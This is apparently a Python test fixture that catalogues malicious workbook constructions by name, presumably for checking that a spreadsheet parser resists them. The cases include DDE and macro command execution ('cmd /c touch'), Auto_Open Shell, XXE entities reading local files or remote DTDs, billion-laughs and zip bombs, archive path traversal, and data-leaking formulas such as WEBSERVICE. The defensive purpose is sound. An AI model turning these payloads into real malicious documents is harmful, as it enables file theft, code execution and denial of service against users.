"""Known ways to abuse a workbook, by name."""

import workbook_abuse as abuse
from workbook_abuse import (BOOK, MAIN, RELS, SHARED, SHEET, SPREADSHEET, TYPES,
                            archive, bytes_changed, drawing, formulas, named_so,
                            of_book, of_sheet, replaced)

LINK = ('<externalReferences><externalReference r:id="x1"/>'
        "</externalReferences>")
EXTERNAL = (LINK, "externalLink", "externalLinks/externalLink1.xml",
            SPREADSHEET + "externalLink+xml")
OUTER = f'<externalLink xmlns="{MAIN}" xmlns:r="{abuse.REL}">%s</externalLink>'
CACHED = ('<externalBook r:id="e1"><sheetNames><sheetName val="Sheet"/>'
          "</sheetNames></externalBook>")
CONNECTIONS = ("", "connections", "connections.xml",
               SPREADSHEET + "connections+xml")
CONNECTION = (f'<connections xmlns="{MAIN}"><connection id="1" name="c" '
              'refreshOnLoad="1" type="%d">%s</connection></connections>')
LAUGHS = ("<!DOCTYPE w [<!ENTITY e0 \"ha\">" + "".join(
    f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12)) + "]>")
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999'
       '/xlink"><image width="9" height="9" x:href="%s"/></svg>')
VML = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-'
       'microsoft-com:office:office"><v:shape id="s" style="width:9pt;height:'
       '9pt"><v:imagedata src="%s" o:href="%s"/></v:shape></xml>')

ROWS = {
    # Images.
    "linked image over http": drawing(
        '<a:blip r:link="i"/>', ("i", "image", "{url}/a.png", "External")),
    "linked image of a file": drawing(
        '<a:blip r:link="i"/>', ("i", "image", "file://{file}", "External")),
    "embedded image that is outside": drawing(
        '<a:blip r:embed="i"/>', ("i", "image", "file://{file}", "External")),
    "image by a hyperlink's relationship": drawing(
        '<a:blip r:link="i"/>', ("i", "hyperlink", "file://{file}", "External")),
    "image whose path climbs out": drawing(
        '<a:blip r:embed="i"/>', ("i", "image", "../../../../../..{file}", "")),
    "image that links to an image": drawing(
        '<a:blip r:embed="i"/>', ("i", "image", "../media/image1.svg", ""),
        media=SVG % "file://{file}"),
    "image that links to a web page": drawing(
        '<a:blip r:embed="i"/>', ("i", "image", "../media/image1.svg", ""),
        media=SVG % "{url}/a.png"),
    "image of an old drawing": of_sheet(
        '<legacyDrawing r:id="v"/>',
        ("v", "vmlDrawing", "../drawings/v.vml", ""), extra=[
            ("xl/drawings/v.vml", "", VML % ("file://{file}", "{url}/a"))]),
    "background picture": of_sheet(
        '<picture r:id="p"/>', ("p", "image", "{url}/a.png", "External")),
    # Other workbooks, programs and services.
    "link to another workbook": of_book(
        *EXTERNAL, OUTER % CACHED,
        ("e1", "externalLinkPath", "file://{book}", "External")),
    "link to a workbook on the web": of_book(
        *EXTERNAL, OUTER % CACHED,
        ("e1", "externalLinkPath", "{url}/a.xlsx", "External")),
    "link to a share": of_book(
        *EXTERNAL, OUTER % CACHED,
        ("e1", "externalLinkPath", "\\\\127.0.0.1\\share\\a.xlsx", "External")),
    "DDE": of_book(*EXTERNAL, OUTER % (
        '<ddeLink ddeService="cmd" ddeTopic="/c touch {file}"><ddeItems>'
        '<ddeItem name="A" advise="1"/></ddeItems></ddeLink>')),
    "linked OLE": of_book(
        *EXTERNAL, OUTER % '<oleLink r:id="e1" progId="Package"/>',
        ("e1", "oleObject", "file://{book}", "External")),
    "linked object of a sheet": of_sheet(
        '<oleObjects><oleObject progId="Package" link="[1]!A" oleUpdate='
        '"OLEUPDATE_ALWAYS" shapeId="1" r:id="o"/></oleObjects>',
        ("o", "oleObject", "file://{book}", "External")),
    "embedded object of a sheet": of_sheet(
        '<oleObjects><oleObject progId="Package" shapeId="1" r:id="o"/>'
        "</oleObjects>", ("o", "oleObject", "../embeddings/o.bin", ""),
        extra=[("xl/embeddings/o.bin", SPREADSHEET + "oleObject", "{file}")]),
    "web query": of_book(*CONNECTIONS, CONNECTION % (
        4, '<webPr url="{url}/q" xml="1" sourceData="1"/>')),
    "database connection": of_book(*CONNECTIONS, CONNECTION % (
        1, '<dbPr connection="DSN=f;DBQ={book}" command="SELECT 1"/>')),
    "text import": of_book(*CONNECTIONS, CONNECTION % (
        6, '<textPr sourceFile="{file}"><textFields/></textPr>')),
    "query table": of_sheet(
        "", ("q", "queryTable", "../queryTables/q.xml", ""), extra=[
            ("xl/queryTables/q.xml", SPREADSHEET + "queryTable+xml",
             f'<queryTable xmlns="{MAIN}" name="q" connectionId="1" '
             'refreshOnLoad="1"/>')]),
    "pivot cache of another workbook": of_book(
        '<pivotCaches><pivotCache cacheId="1" r:id="x1"/></pivotCaches>',
        "pivotCacheDefinition", "pivotCache/p.xml",
        SPREADSHEET + "pivotCacheDefinition+xml",
        f'<pivotCacheDefinition xmlns="{MAIN}" xmlns:r="{abuse.REL}" '
        'refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource '
        'ref="A1:B2" sheet="Sheet" r:id="e1"/></cacheSource><cacheFields/>'
        "</pivotCacheDefinition>",
        ("e1", "externalLinkPath", "file://{book}", "External")),
    "chart of external data": of_sheet(
        '<drawing r:id="d"/>', ("d", "drawing", "../drawings/d.xml", ""),
        extra=[("xl/drawings/d.xml", "vnd.openxmlformats-officedocument."
                "drawingml.chart+xml", '<c:chartSpace xmlns:c="http://schemas.'
                'openxmlformats.org/drawingml/2006/chart"><c:externalData r:id='
                f'"e" xmlns:r="{abuse.REL}"><c:autoUpdate val="1"/>'
                "</c:externalData></c:chartSpace>"),
               ("xl/drawings/_rels/d.xml.rels", "",
                abuse.relationships(("e", "externalLinkPath", "file://{book}",
                                     "External")).decode())]),
    # Code.
    "macros": of_book("", "vbaProject", "vbaProject.bin", "vnd.ms-office."
                      "vbaProject", "Sub Auto_Open(): Shell {url}: End Sub"),
    "sheet of old macros": of_book(
        '<definedNames><definedName name="_xlnm.Auto_Open">Sheet!$A$1'
        "</definedName></definedNames>", "xlMacrosheet", "macrosheets/m.xml",
        "vnd.ms-excel.macrosheet+xml", f'<worksheet xmlns="{MAIN}"><sheetData>'
        '<row r="1"><c r="A1"><f>EXEC("touch {file}")</f></c></row></sheetData>'
        "</worksheet>"),
    "form control": of_sheet(
        '<controls><control shapeId="1" r:id="k" name="k"/></controls>',
        ("k", "control", "../activeX/a.xml", ""), extra=[
            ("xl/activeX/a.xml", "vnd.ms-office.activeX+xml",
             '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
             'activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>')]),
    # XML.
    "entity of a file": replaced(
        SHARED, "<sst ", '<!DOCTYPE s [<!ENTITY x SYSTEM "file://{file}">]>'
        "<sst "),
    "entity of the web": replaced(
        BOOK, "<workbook ", '<!DOCTYPE s [<!ENTITY % x SYSTEM "{url}/x">%x;]>'
        "<workbook "),
    "entity in UTF-16": replaced(
        SHEET, "<worksheet ", '<!DOCTYPE s [<!ENTITY x SYSTEM "file://{file}">]>'
        "<worksheet ", "utf-16"),
    "entity in relationships": replaced(
        RELS, "<Relationships ", '<!DOCTYPE s SYSTEM "{url}/x"><Relationships '),
    "entities that multiply": replaced(
        SHARED, "<sst ", LAUGHS + "<sst "),
    "entities that multiply, used": replaced(
        SHEET, "<worksheet ", LAUGHS.replace("]>", '<!ENTITY z "&e11;">]>')
        + "<worksheet "),
    "inclusion": of_sheet(
        '<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" '
        'href="file://{file}"/>'),
    "style sheet": replaced(
        SHEET, "<worksheet ", '<?xml-stylesheet type="text/xsl" '
        'href="{url}/s.xsl"?><worksheet '),
    "custom XML": of_sheet("", extra=[(
        "customXml/item1.xml", "", '<a xmlns:s="http://www.w3.org/2001/'
        'XMLSchema-instance" s:schemaLocation="urn:a {url}/a.xsd"/>')]),
    # Archives.
    "zip bomb": archive(abuse.bomb),
    "name that climbs out": archive(lambda target, made, bait: target.writestr(
        "../../../../../.." + bait.file, b"changed")),
    "absolute name": archive(lambda target, made, bait: target.writestr(
        bait.file, b"changed")),
    "relationship that climbs out": replaced(
        RELS, 'Target="/xl/worksheets/sheet1.xml"',
        'Target="../../../../../..{file}"'),
    "two parts of a name": archive(
        lambda target, made, bait: target.writestr(SHEET, made[SHEET])),
    "part that is a link": archive(abuse.symbolic_link),
    "encrypted parts": bytes_changed(abuse.encrypted),
    "half a file": bytes_changed(lambda content: content[:len(content) // 2]),
    "wrong types of parts": replaced(
        TYPES, "styles+xml", "worksheet+xml"),
    "another format": abuse.other_format,
    "two formats at once": abuse.both_formats,
    "a text": named_so('=WEBSERVICE("{url}"),=DDE("a";"{file}";"b")\n'),
    # Sizes.
    "a billion merged cells": of_sheet(
        '<mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>'),
    "huge dimensions": replaced(
        SHEET, "<sheetData>", '<sheetData><row r="1048576"><c r="XFD1048576">'
        "<v>1</v></c></row>"),
    "more texts than there are": replaced(
        SHARED, 'uniqueCount="1"', 'uniqueCount="4294967295"'),
    "formulas in a circle": formulas("A3+1", "A2+1"),
    "formula of a thousand brackets": formulas("(" * 1000 + "1" + ")" * 1000),
    # Time.
    "formulas of quotes": abuse.slow_to_scan,
    "millions of texts": abuse.slow_to_load,
    "rules for input": abuse.slow_below_all_limits,
    # Formulas and what holds some.
    "WEBSERVICE": formulas(
        'WEBSERVICE("{url}/w")', '_xlfn.WEBSERVICE("file://{file}")',
        'FILTERXML(_xlfn.WEBSERVICE("{url}/f"),"//a")'),
    "IMAGE": formulas('_xlfn.IMAGE("{url}/i.png")',
                      '_xlfn.IMAGE("file://{file}")'),
    "HYPERLINK": formulas('HYPERLINK("{url}/h","a")',
                          'HYPERLINK("file://{file}")'),
    "INDIRECT to a file": formulas(
        "INDIRECT(\"'file://{book}'#$Sheet.A1\")",
        "INDIRECT(\"'[{book}]Sheet'!A1\")", "'file://{book}'#$Sheet.A1"),
    "INFO and CELL": formulas('INFO("directory")', 'CELL("filename")',
                              'INFO("osversion")'),
    "DDE in a formula": formulas(
        'DDE("soffice","{book}","Sheet.A1")', "cmd|'/c touch {file}'!A1"),
    "validation by another workbook": of_sheet(
        '<dataValidations count="1"><dataValidation type="list" sqref="A1">'
        "<formula1>'file://{book}'#$Sheet.A1:A9</formula1></dataValidation>"
        "</dataValidations>"),
    "formats by another workbook": of_sheet(
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority='
        '"1"><formula>WEBSERVICE("{url}/c")=1</formula></cfRule>'
        "</conditionalFormatting>"),
    "publication": of_sheet(
        '<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType='
        '"sheet" destinationFile="{file}" autoRepublish="1"/></webPublishItems>'),
    "font of a file": of_book(
        "", "font", "fonts/f.odttf", "vnd.openxmlformats-officedocument."
        "obfuscatedFont", "{file}", ("f", "font", "file://{file}", "External")),
}
